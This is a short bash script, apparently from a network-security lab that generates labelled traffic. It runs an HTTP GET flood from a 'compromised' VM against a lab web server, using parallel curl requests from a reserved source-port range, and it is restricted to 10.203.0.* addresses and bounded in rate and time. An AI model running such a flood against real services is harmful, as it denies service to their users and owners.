# Known-peer attack: an application-layer flood on a service the VM uses: fast HTTP GETs to the lab
# web VM, 16 in parallel (curl -Z), each a new connection from a source port in PORT_LO..PORT_HI (the
# label's reserved block), for SECONDS. Bounded: at most 400 requests a second of run, and `timeout`.
# Usage (inside the compromised VM): http-flood.sh WEB_IP PORT SECONDS PORT_LO PORT_HI
set -u
web="$1" port="$2" secs="$3" lo="$4" hi="$5"
case "$web" in 10.203.0.*) ;; *) echo "http-flood: $web is not a lab address" >&2; exit 2 ;; esac
n=$(( ${secs%.*} * 20 ))
# URL globbing gives 20 x n requests; python's http.server answers HTTP/1.0, so each is its own connection.
timeout "$secs" curl -s -Z --parallel-max 16 -m 2 --local-port "$lo-$hi" \
  "http://$web:$port/page[1-20].html?n=[1-$n]" >/dev/null 2>&1 || true
